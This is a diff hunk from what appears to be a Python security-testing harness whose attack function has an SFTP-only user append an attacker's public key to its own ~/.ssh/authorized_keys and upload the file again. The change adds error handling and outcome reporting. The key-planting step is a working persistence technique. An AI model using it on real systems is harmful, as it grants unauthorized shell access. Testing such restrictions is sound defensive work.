@@ -455,7 +455,11 @@ def attack(service):
         # The SFTP-only user makes itself a new way in: its own ~/.ssh/authorized_keys, with the attacker's key.
         target = "/home/%s/.ssh/authorized_keys" % SFTP_USER
         local = "/tmp/corpus-attack-authorized_keys"
-        sftp("get .ssh/authorized_keys %s\n" % local)
+        got = sftp("get .ssh/authorized_keys %s\n" % local, check=False)
+        if got.returncode != 0:
+            detail = (got.stderr or got.stdout).strip()
+            return {"attack": "sftp get .ssh/authorized_keys", "outcome": _error_of(detail), "detail": detail,
+                    "target": target}
         with open(local, "a", encoding="utf-8") as handle, open(ATTACKER_KEY + ".pub", encoding="utf-8") as key:
             handle.write(key.read())
         put = sftp("put %s .ssh/authorized_keys\n" % local, check=False)
